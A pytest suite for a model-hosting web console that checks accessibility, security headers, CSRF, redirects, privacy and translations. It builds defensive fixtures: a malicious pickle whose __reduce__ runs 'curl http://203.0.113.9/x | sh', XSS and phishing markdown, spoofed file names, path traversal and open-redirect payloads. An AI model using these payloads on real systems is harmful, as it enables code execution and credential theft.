# SPDX-License-Identifier: Apache-2.0
"""The console in headless Chromium: a person's way through it, axe-core on every page, and what must not be seen."""
import base64
import html
import json
import os
import pickle
import re
import shutil
import subprocess
import time
import urllib.parse

import pytest
from conftest import BIN, ROOT

PASSWORD = "correct horse battery"
MODULES = ROOT / "build" / "npm"

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/chromium"), reason="needs Debian's chromium")


@pytest.fixture(scope="session")
def modules():
    """playwright-core (newer ones refuse the Node.js of Debian 12) and axe-core from npm, installed once under build/."""
    if not (MODULES / "node_modules" / "axe-core").exists() or not (MODULES / "node_modules" / "playwright-core").exists():
        MODULES.mkdir(parents=True, exist_ok=True)
        (MODULES / "package.json").write_text('{"name":"console-tests","private":true}\n')
        subprocess.run(["npm", "install", "--no-audit", "--no-fund", "--silent", "playwright-core@1.60.0", "axe-core"], cwd=MODULES, check=True, timeout=240)
    return MODULES


def person(s, name, *flags):
    s.cli("user", "add", name, "--password-stdin", *flags, stdin=PASSWORD + "\n")
    s.tokens[name] = s.token(name, "write")


class Evil:
    def __reduce__(self):
        return os.system, ("curl http://203.0.113.9/x | sh",)


CARD = """---
license: apache-2.0
pipeline_tag: text-generation
---
# A small model

It answers short questions. <script>alert(1)</script> [bad](javascript:alert(1)) [notes](docs/notes.md)

| a | b |
|---|---|
| 1 | 2 |
"""


DOT_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
HOSTILE_NAMES = ["photo_\u202egnp.exe", "zero\u200bwidth.py", "<img src=x onerror=alert(1)>.txt", "quo\"te's.txt", "#hash?query%41.txt"]
HOSTILE_CARD = """# Hostile <img src=x onerror=alert(1)> card

<script>alert(1)</script><svg onload=alert(1)></svg><iframe src="https://evil.example"></iframe><style>body{display:none}</style>
<form action="https://evil.example"><input name=password></form>

[js](javascript:alert(1)) [data](data:text/html,x) [up](../../../../etc/passwd) ![pixel](https://tracker.example/p.gif)
![data](data:image/svg+xml;base64,PHN2Zz4=) \u202egnp.exe

""" + "| " + " | ".join("column %d" % i for i in range(40)) + " |\n|" + "---|" * 40 + "\n" + "| value " * 40 + "|\n\n" + ">" * 200 + " deep\n\n" \
    + "".join("  " * i + "- level %d\n" % i for i in range(40))

CONFIG = """
engines:
  - name: talking
    argv: [python3, "%s", "{model}", "{port}"]
    formats: [csv]
    stop_timeout_s: 2
""" % (ROOT / "test/e2e/talking_engine.py")


@pytest.fixture(scope="module")
def hub(make_server, tmp_path_factory):
    """A server with a good model, a blocked one, a dataset and a private one; its engine loads the csv file."""
    s = make_server(CONFIG)
    person(s, "root", "--admin", "--reviewer")
    person(s, "amy")
    person(s, "mallory")
    good = tmp_path_factory.mktemp("good")
    (good / "README.md").write_text(CARD)
    (good / "config.json").write_text(json.dumps({"architectures": ["LlamaForCausalLM"]}, indent=1))
    (good / "train.csv").write_text('q,a\n"x, y",z\n')
    (good / "dot.png").write_bytes(base64.b64decode(DOT_PNG))
    (good / "docs").mkdir()
    (good / "docs" / "notes.md").write_text("# Notes\n\nBack to [the card](../README.md).\n")
    header = json.dumps({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}).encode()
    (good / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + bytes(16))
    s.hf("amy", "upload", "amy/small", good)
    questions = tmp_path_factory.mktemp("questions")
    (questions / "train.csv").write_text('q,a\n"x, y",z\n')
    (questions / "eval.jsonl").write_text('{"id": 1, "said": "hello"}\n{"id": 2, "said": "<b>"}\n')
    s.hf("amy", "upload", "amy/questions", questions, "--repo-type", "dataset")
    bad = tmp_path_factory.mktemp("bad")
    (bad / "evil.bin").write_bytes(pickle.dumps(Evil()))
    (bad / "README.md").write_text("# Harmless\n")
    s.hf("mallory", "upload", "mallory/harmless", bad)
    hostile = tmp_path_factory.mktemp("hostile")
    (hostile / "README.md").write_text(HOSTILE_CARD)
    for name in HOSTILE_NAMES:
        (hostile / name).write_text("text\n")
    s.hf("mallory", "upload", "mallory/hostile", hostile)
    s.hf("mallory", "repos", "create", "mallory/odd-set", "--repo-type", "dataset")
    s.hf("amy", "upload", "amy/hidden-thing", good / "config.json", "--private")
    s.wait_verdict("amy/small")
    s.wait_verdict("mallory/harmless")
    s.wait_verdict("mallory/hostile")
    return s


def flow(modules, s, part, timeout=280, timeout_ms=20000, **opt):
    opt = dict(timeout=timeout_ms, modules=str(modules), user="amy", password=PASSWORD, good="amy/small", blocked="mallory/harmless", **opt)
    p = subprocess.run(["node", str(ROOT / "test/e2e/console_flow.mjs"), part, s.url, json.dumps(opt)], capture_output=True, text=True, timeout=timeout, cwd=ROOT)
    assert p.returncode == 0 and p.stdout.strip().endswith("ok"), p.stdout + p.stderr + "\n--- server:\n" + s.tail(2000)


def test_a_person_finds_out_why(modules, hub):
    """Sign-in, new token, browse, why blocked, keyboard, switches, sign-out."""
    flow(modules, hub, "browse")


def test_the_same_without_javascript(modules, hub):
    flow(modules, hub, "plain")


def test_deploy_and_chat(modules, hub):
    """From the repository's page to an answer in the playground, with what it took; then stop."""
    flow(modules, hub, "deploy", model="small", answer="Est vir qui adest.", timeout_ms=15000)


PAGES = """home	/	out
home-in	/	in
explore	/explore	out
explore-datasets	/explore?type=dataset&q=questions	out
explore-none	/explore?q=nothing-like-it	out
card	/amy/small	in
files	/amy/small/tree/main	in
folder	/amy/small/tree/main/docs	in
card-hostile	/mallory/hostile	in
files-hostile	/mallory/hostile/tree/main	in
file-text	/amy/small/blob/main/config.json	in
file-markdown	/amy/small/blob/main/docs/notes.md	in
file-tensors	/amy/small/blob/main/model.safetensors	in
file-image	/amy/small/blob/main/dot.png	in
file-table	/datasets/amy/questions/blob/main/train.csv	in
file-blocked	/mallory/harmless/blob/main/evil.bin	in
history	/amy/small/commits/main	in
review	/amy/small/review/main	in
review-blocked	/mallory/harmless/review/main	in
use	/amy/small/use/main	in
settings	/amy/small/settings	in
owner	/amy	in
new	/new	in
new-org	/new/org	in
sign-in	/sign-in	out
sign-in-needed	/settings/tokens	out
tokens	/settings/tokens	in
sessions	/settings/sessions	in
profile	/settings/profile	in
deployments	/deployments	in
deploy-new	/deployments/new?repo=amy/small	in
playground	/playground	in
activity	/activity	in
event	/activity/1	in
api	/docs/api	out
not-found	/amy/nothing	out
"""


# Each sweep takes a minute and a half: the gate does each language and each theme once, BALLAST_FULL=1 all four pairs.
@pytest.mark.parametrize("theme,lang", [("light", "en"), ("dark", "zh")] + ([("dark", "en"), ("light", "zh")] if os.environ.get("BALLAST_FULL") else []))
@pytest.mark.release_only
def test_axe_is_clean_and_nothing_scrolls_sideways(modules, hub, tmp_path, lang, theme):
    pages = tmp_path / "pages.tsv"
    pages.write_text(PAGES)
    p = subprocess.run(["node", "tools/screenshots.mjs", "--base", hub.url, "--user", "root", "--password", PASSWORD, "--pages", str(pages), "--langs", lang,
                        "--themes", theme, "--modules", str(modules), "--no-pictures"], capture_output=True, text=True, timeout=290, cwd=ROOT)
    rows = [json.loads(line) for line in p.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == len(PAGES.splitlines()), p.stdout + p.stderr
    assert [r for r in rows if r["problems"]] == []


# --- without a browser -------------------------------------------------------------------------------------------


class Browser:
    """Just enough of one: cookies, forms with their token."""

    def __init__(self, s):
        self.s, self.cookies = s, {}

    def get(self, path, **headers):
        return self.send("GET", path, None, headers)

    def post(self, path, headers=None, **fields):
        return self.send("POST", path, urllib.parse.urlencode(fields).encode(), dict(headers or {}, **{"Content-Type": "application/x-www-form-urlencoded"}))

    def send(self, method, path, body, headers):
        headers = dict(headers, Cookie="; ".join("%s=%s" % kv for kv in self.cookies.items()))
        status, h, data = self.s.http(method, path, body=body, headers=headers)
        for line in h.get_all("Set-Cookie") or []:
            name, _, value = line.split(";")[0].partition("=")
            self.cookies[name] = value
        return status, h, data.decode(errors="replace")

    def sign_in(self, user):
        status, h, _ = self.post("/sign-in", user=user, password=PASSWORD, next="/")
        assert status == 303, status
        self.csrf = re.search(r'name="csrf" value="([^"]+)"', self.get("/")[2]).group(1)
        return self


def test_every_page_carries_the_policy(hub):
    for path in ("/", "/explore", "/amy/small", "/mallory/harmless/review/main", "/nothing/here", "/settings/tokens"):
        _, h, body = hub.http("GET", path)
        policy = h["Content-Security-Policy"]
        assert "default-src 'self'" in policy and "unsafe" not in policy, path
        assert h["X-Content-Type-Options"] == "nosniff"
        assert b"<script>" not in body and b" style=" not in body and b"javascript:" not in body, path


def test_forms_need_their_token(hub):
    b = Browser(hub).sign_in("amy")
    for path, fields in (("/settings/tokens", {"name": "x", "role": "read", "expires": "30"}), ("/new", {"type": "model", "owner": "amy", "name": "forged"}),
                         ("/amy/small/settings", {"do": "delete", "confirm": "amy/small"})):
        assert b.post(path, **fields)[0] == 403, path
        assert b.post(path, csrf="0" * 40, **fields)[0] == 403, path
    assert hub.http("GET", "/amy/small")[0] == 200
    assert hub.http("GET", "/amy/forged")[0] == 404


def test_next_never_leaves_the_site(hub):
    for evil in ("//evil.example", "https://evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "javascript:alert(1)"):
        status, h, _ = Browser(hub).post("/sign-in", user="amy", password=PASSWORD, next=evil)
        assert status == 303 and urllib.parse.urljoin(hub.url, h["Location"]) == hub.url + "/", evil
        status, h, _ = Browser(hub).post("/theme", theme="dark", next=evil)
        assert urllib.parse.urljoin(hub.url, h["Location"]) == hub.url + "/", evil


def test_private_things_are_nowhere(hub):
    stranger, other, owner = Browser(hub), Browser(hub).sign_in("mallory"), Browser(hub).sign_in("amy")
    for path in ("/", "/explore", "/explore?q=hidden", "/amy", "/activity", "/activity?repo=amy/hidden-thing"):
        for b in (stranger, other):
            page = b.get(path)[2].replace('value="hidden"', "").replace('value="amy/hidden-thing"', "").replace("“hidden”", "").replace("?repo=amy/hidden-thing", "")
            assert "hidden-thing" not in page.replace("repo%3Damy%2Fhidden-thing", ""), path
    for tail in ("", "/tree/main", "/review/main", "/commits/main", "/settings", "/use/main", "/blob/main/config.json"):
        assert stranger.get("/amy/hidden-thing" + tail)[0] in (401, 404)
        assert other.get("/amy/hidden-thing" + tail)[0] == 404
        assert owner.get("/amy/hidden-thing" + tail)[0] == 200, tail
    events = re.findall(r'href="(/activity/\d+)"', owner.get("/activity?repo=amy/hidden-thing")[2])
    assert events
    for e in events:
        assert owner.get(e)[0] == 200 and stranger.get(e)[0] == 404 and other.get(e)[0] == 404


def test_language_follows_account_then_switch_then_browser(hub):
    b = Browser(hub)
    assert 'lang="en"' in b.get("/explore", **{"Accept-Language": "en-GB"})[2]
    assert 'lang="zh-CN"' in b.get("/explore", **{"Accept-Language": "zh-CN,zh;q=0.9"})[2]
    status, h, _ = b.post("/language", lang="zh", next="/explore?q=a&type=dataset")
    assert status == 303 and h["Location"].endswith("/explore?q=a&type=dataset")
    assert 'lang="zh-CN"' in b.get("/explore", **{"Accept-Language": "en"})[2]
    b.sign_in("mallory")
    assert b.post("/settings/profile", csrf=b.csrf, do="lang", lang="en")[0] == 303
    assert 'lang="en"' in b.get("/explore", **{"Accept-Language": "zh-CN"})[2]
    assert b.post("/settings/profile", csrf=b.csrf, do="lang", lang="")[0] == 303
    assert 'lang="zh-CN"' in b.get("/explore")[2]


def test_a_reviewer_overrides_with_a_reason(hub, tmp_path):
    (tmp_path / "tool.bin").write_bytes(pickle.dumps(Evil()))
    hub.hf("mallory", "upload", "mallory/appeal", tmp_path)
    hub.wait_verdict("mallory/appeal")
    root, amy = Browser(hub).sign_in("root"), Browser(hub).sign_in("amy")
    page = root.get("/mallory/appeal/review/main")[2]
    oid = re.search(r'name="oid" value="([0-9a-f]+)"', page).group(1)
    fields = {"oid": oid, "verdict": "notice", "reason": "looked at it by hand", "next": "/mallory/appeal/review/main"}
    assert amy.post("/mallory/appeal/review/main", csrf=amy.csrf, **fields)[0] == 403
    assert "Decide as a reviewer" not in amy.get("/mallory/appeal/review/main")[2]
    assert root.post("/mallory/appeal/review/main", csrf=root.csrf, **fields)[0] == 303
    end = time.time() + 20
    while "This revision is blocked" in root.get("/mallory/appeal/review/main")[2] and time.time() < end:
        time.sleep(0.2)
    page = root.get("/mallory/appeal/review/main")[2]
    assert "decided by a reviewer" in page and "looked at it by hand" in page
    assert "looked at it by hand" in root.get("/activity?kind=verdict.")[2]


def test_delete_names_what_it_destroys(hub, tmp_path):
    b = Browser(hub).sign_in("amy")
    assert b.post("/new", csrf=b.csrf, type="model", owner="amy", name="short-lived", private="0")[0] == 303
    page = b.get("/amy/short-lived/settings")[2]
    assert "This destroys amy/short-lived for good" in page
    status, _, page = b.post("/amy/short-lived/settings", csrf=b.csrf, do="delete", confirm="amy/other")
    assert status == 422 and "Nothing was deleted" in page
    assert b.post("/amy/short-lived/settings", csrf=b.csrf, do="delete", confirm="amy/short-lived")[0] == 303
    assert b.get("/amy/short-lived")[0] == 404


def test_assets_are_cached_for_ever_and_small(hub):
    page = hub.http("GET", "/amy/small/review/main")[2]
    css = re.search(rb'href="(/assets/app\.[0-9a-f]{12}\.css)"', page).group(1).decode()
    _, h, body = hub.http("GET", css)
    assert "immutable" in h["Cache-Control"] and h["Content-Type"].startswith("text/css")
    assert len(page) + len(body) <= 60_000
    _, h, packed = hub.http("GET", css, headers={"Accept-Encoding": "gzip"})
    assert h["Content-Encoding"] == "gzip" and len(packed) < len(body) / 2
    assert hub.http("GET", "/assets/app.000000000000.css")[0] == 404


@pytest.mark.release_only
def test_pages_are_made_within_20_ms(hub):
    for path in ("/", "/explore", "/amy/small", "/amy/small/tree/main", "/mallory/harmless/review/main", "/activity"):
        times = []
        for _ in range(15):
            t = time.perf_counter()
            assert hub.http("GET", path)[0] == 200
            times.append(time.perf_counter() - t)
        assert sorted(times)[len(times) // 2] < 0.020, (path, sorted(times))


def test_uploads_through_the_card_cannot_name_other_hosts(hub):
    page = hub.http("GET", "/amy/small")[2].decode()
    card = page[page.index('<article class="md">'):page.index("</article>")]
    assert "alert(1)</script>" not in card and "javascript:" not in card
    assert 'href="/amy/small/blob/main/docs/notes.md"' in card


# --- every clause of the design ------------------------------------------------------------------------------------

MAIN = re.compile(r'<main id="main".*</main>', re.S)


def main_of(page):
    return MAIN.search(page).group(0)


def text_nodes(page):
    """What a person reads or hears: text, and the attributes that speak."""
    page = re.sub(r"<(style|script|code|pre)\b.*?</\1>", "", page, flags=re.S)
    spoken = re.findall(r'(?:aria-label|title|placeholder|alt)="([^"]*)"', page)
    return {html.unescape(t).strip() for t in re.findall(r">([^<>]+)<", page) + spoken} - {""}


def catalogue():
    """msgid -> Chinese, of every catalogue."""
    out = {}
    for po in (ROOT / "po").glob("*.po"):
        for m in re.finditer(r'^msgid "(.*)"\nmsgstr "(.*)"$', po.read_text(), re.M):
            out[m.group(1).replace('\\"', '"')] = m.group(2)
    return out


def test_chinese_pages_have_no_english_text_left(hub):
    who = {"in": Browser(hub).sign_in("amy"), "out": Browser(hub)}
    words = catalogue()
    for line in PAGES.splitlines():
        name, path, state = line.split("\t")
        who[state].cookies["lang"] = "zh"
        page = who[state].get(path)[2]
        left = {t for t in text_nodes(page) if words.get(t, t) != t}
        assert 'lang="zh-CN"' in page and not left, (name, left)


def test_each_route_says_what_it_does_in_chinese(hub):
    """A route whose summary po/api.zh_CN.po does not have fails here."""
    said = re.findall(r'<td class="what">([^<]*)</td>', hub.http("GET", "/docs/api", headers={"Accept-Language": "zh-CN"})[2].decode())
    assert len(said) > 60 and [s for s in said if not re.search("[\u4e00-\u9fff]", s)] == []


def test_home_has_four_figures_and_three_commands(hub):
    page = main_of(Browser(hub).get("/")[2])
    figures = re.findall(r"<div><dt>(.*?)</dt><dd>(.*?)</dd></div>", page, re.S)
    assert len(figures) == 4
    assert figures[0][0] == "repositories" and int(figures[0][1]) >= 5
    assert re.fullmatch(r"stored for .+ uploaded \([\d,]+ %\)", figures[1][0]) and re.search(r"\d", figures[1][1])
    assert figures[2][0] == "verdicts in the last day" and int(figures[2][1]) >= 4
    assert figures[3][0] == "requests answered by models"
    commands = html.unescape(re.search(r"<pre[^>]*><code>(.*?)</code>", page, re.S).group(1))
    assert commands.count("\n") == 2 and "HF_ENDPOINT=%s " % hub.url in commands and "hf upload " in commands
    assert "New here" in page and "amy/small" in page


def test_what_waits_for_me_stands_on_my_home(hub):
    mine = main_of(Browser(hub).sign_in("mallory").get("/")[2])
    waiting = mine[mine.index("Waiting for you"):mine.index("My repositories")]
    assert "mallory/harmless" in waiting and "block" in waiting and "/review/" in waiting
    assert "Nothing waits for you" in Browser(hub).sign_in("root").get("/")[2]


def test_the_search_box_finds_every_kind(hub):
    page = main_of(Browser(hub).get("/explore?q=odd-set")[2])
    assert re.search(r'aria-current="page">Datasets <span class="n">1</span>', page), "the box must lead to what was found"
    assert 'Models <span class="n">0</span>' in page and "mallory/odd-set" in page
    page = main_of(Browser(hub).get("/explore?q=odd-set&type=model")[2])
    assert "mallory/odd-set" not in page and "Nothing matches. Try fewer words, another kind" in page


def test_the_statement_verifies_offline_with_the_command_shown(hub, tmp_path):
    page = main_of(Browser(hub).get("/mallory/harmless/review/main")[2])
    for said in ("<dt>Responsible</dt><dd>operator of this instance", "<dt>Policy</dt>", "<dt>Signing key</dt>"):
        assert said in page, said
    assert re.search(r'<dt>Rule pack</dt><dd><code>[0-9a-f]{64}</code><button class="copy', page)
    assert re.search(r'<dt>Signature</dt><dd><code>[A-Za-z0-9+/=]{80,}</code><button class="copy', page)
    assert re.search(r'<dt>Decided</dt><dd><time datetime="', page)
    command = html.unescape(re.search(r"<code>(curl -fsS .*?)</code>", page, re.S).group(1))
    url = re.search(r"curl -fsS (\S+) -o verdict.json\nballast review verify verdict.json", command).group(1)
    (tmp_path / "verdict.json").write_bytes(hub.http("GET", url)[2])
    p = subprocess.run([BIN, "review", "verify", str(tmp_path / "verdict.json")], capture_output=True, text=True, env=hub.env)
    assert p.returncode == 0, p.stdout + p.stderr
    (tmp_path / "verdict.json").write_bytes(hub.http("GET", url)[2].replace(b"block", b"blocc"))
    assert subprocess.run([BIN, "review", "verify", str(tmp_path / "verdict.json")], capture_output=True, env=hub.env).returncode != 0


def test_snippets_name_what_is_there(hub):
    for path, full in (("/amy/small", "amy/small"), ("/datasets/amy/questions", "amy/questions")):
        page = main_of(Browser(hub).get(path + "/use/main")[2])
        names = re.findall(r'name="use" id="u-(\w+)"', page)
        assert names == (["hf", "python", "git", "openai", "chat", "curl"] if path == "/amy/small" else ["hf", "python", "git", "curl"])
        assert page.count(hub.url) >= len(names) and "hf download " + full in page
        url = re.search(r"&#39;(http\S+/resolve/main/\S+)&#39;", page).group(1)
        assert hub.http("GET", url)[0] in (200, 302), "the file that the snippet names is not there: " + url
    mine = Browser(hub).sign_in("amy").get("/amy/hidden-thing/use/main")[2]
    assert "Not deployed yet" in mine and "HF_TOKEN=hf_…" in mine, "a private repository needs a token"


def test_activity_filters_and_leads_to_the_raw_entry(hub):
    b = Browser(hub)
    page = main_of(b.get("/activity?kind=verdict.")[2])
    rows = re.findall(r'<li>.*?<span>(.*?)</span><a class="when" href="(/activity/\d+)"', page, re.S)
    assert rows and all("The automaton" in r[0] or "decided" in r[0] for r in rows)
    rows_of = re.findall(r"<li>.*?</li>", main_of(b.get("/activity?repo=amy/small")[2]), re.S)
    assert rows_of and all('href="/amy/small"' in r or 'href="/deployments/' in r for r in rows_of)
    assert "Clear the filter" in b.get("/activity?repo=no/thing")[2]
    entry = main_of(b.get(rows[0][1])[2])
    digest = re.search(r"<dt>Hash</dt><dd><code>([0-9a-f]{64})</code><button class=\"copy", entry).group(1)
    assert "As stored" in entry and "<code>verdict." in entry
    assert digest in hub.cli("log", "list", "--json").stdout


def test_times_are_relative_with_the_absolute_in_their_title(hub):
    page = Browser(hub).get("/amy/small/commits/main")[2]
    assert re.search(r'<time datetime="\d{4}-\d\d-\d\dT[\d:.]+Z" title="\d{4}-\d\d-\d\d [\d:]{8} UTC">(just now|\d+ minutes? ago)</time>', page)


def test_sessions_and_password(hub):
    person(hub, "pia")
    here, there = Browser(hub).sign_in("pia"), Browser(hub).sign_in("pia")
    page = here.get("/settings/sessions")[2]
    assert "this one" in page and "signs that browser out at once" in page
    other = re.search(r'name="id" value="([^"]+)"', main_of(page)).group(1)
    assert here.post("/settings/sessions/end", csrf=here.csrf, id=other)[0] == 303
    assert there.get("/settings/sessions")[0] == 401 and here.get("/settings/sessions")[0] == 200
    change = {"do": "password", "old": "not the password", "new": "another long password"}
    assert here.post("/settings/profile", csrf=here.csrf, **change)[0] == 422
    assert here.post("/settings/profile", csrf=here.csrf, **dict(change, old=PASSWORD, new="short"))[0] == 422
    there = Browser(hub).sign_in("pia")
    assert here.post("/settings/profile", csrf=here.csrf, **dict(change, old=PASSWORD))[0] == 303
    assert there.get("/settings/sessions")[0] == 401, "all other sessions end"
    assert Browser(hub).post("/sign-in", user="pia", password=PASSWORD, next="/")[0] == 401
    assert Browser(hub).post("/sign-in", user="pia", password="another long password", next="/")[0] == 303


def test_file_views(hub):
    b = Browser(hub)
    tensors = main_of(b.get("/amy/small/blob/main/model.safetensors")[2])
    assert re.search(r"<code>w</code></td><td>F32</td><td>2 × 2</td><td class=\"r\">16\u00a0B", tensors) and "1 tensor" in tensors
    table = main_of(b.get("/datasets/amy/questions/blob/main/train.csv")[2])
    assert "<th>q</th><th>a</th>" in table and "<td>x, y</td><td>z</td>" in table
    lines = main_of(b.get("/datasets/amy/questions/blob/main/eval.jsonl")[2])
    assert "<th>id</th><th>said</th>" in lines and "<td>1</td><td>hello</td>" in lines
    image = main_of(b.get("/amy/small/blob/main/dot.png")[2])
    assert '<img src="/amy/small/resolve/main/dot.png" alt="dot.png">' in image
    assert 'id="L1"' in b.get("/amy/small/blob/main/config.json")[2]
    assert "?plain=1" in b.get("/amy/small/blob/main/docs/notes.md")[2] and 'id="L1"' in b.get("/amy/small/blob/main/docs/notes.md?plain=1")[2]


def test_hostile_names_are_shown_as_they_are(hub):
    page = Browser(hub).get("/mallory/hostile/tree/main")[2]
    for drawn in ("photo_[U+202E]gnp.exe", "zero[U+200B]width.py", "&lt;img src=x onerror=alert(1)&gt;.txt", "quo&quot;te&#39;s.txt"):
        assert drawn in page, drawn
    assert "\u202e" not in page and "<img" not in main_of(page)
    for name in HOSTILE_NAMES:
        path = "/mallory/hostile/blob/main/" + urllib.parse.quote(name)
        assert 'href="%s"' % path in page, name
        status, _, one = Browser(hub).get(path)
        assert status == 200 and "<img src=x" not in one and one.count("\u202e") <= one.count('data-copy="')
    for tail in ("review/main", "use/main", "commits/main"):
        assert "\u202e" not in Browser(hub).get("/mallory/hostile/" + tail)[2]


def test_a_hostile_card_stays_text(hub):
    page = Browser(hub).get("/mallory/hostile")[2]
    card = page[page.index('<article class="md">'):page.index("</article>")]
    for tag in ("<script", "<svg", "<iframe", "<style", "<form", "<input", "<object", " on", "javascript:", "data:", "\u202e"):
        assert tag not in re.sub(r">[^<]*<", "><", card), tag
    assert '<a class="external-image" rel="nofollow ugc noopener noreferrer" href="https://tracker.example/p.gif">pixel</a>' in card
    assert "tracker.example" not in "".join(re.findall(r"<img[^>]*>", card))
    assert card.count("<blockquote>") + card.count("<ul>") <= 50 and "level 39" in card
    assert "[U+202E]" in card and 'href="/mallory/hostile/blob/main/etc/passwd"' in card


def test_a_long_card_is_cut_and_says_so(hub, tmp_path):
    (tmp_path / "README.md").write_text("# Long\n\n" + "A **paragraph** of [words](b.md).\n\n" * 130000)
    hub.hf("amy", "upload", "amy/long-card", tmp_path)
    hub.wait_verdict("amy/long-card")
    start = time.perf_counter()
    status, _, page = Browser(hub).get("/amy/long-card")
    assert status == 200 and time.perf_counter() - start < 2 and len(page) < 2_000_000
    assert "The card is longer than this page shows" in page


if shutil.which("node") is None:
    pytest.skip("node is not here", allow_module_level=True)
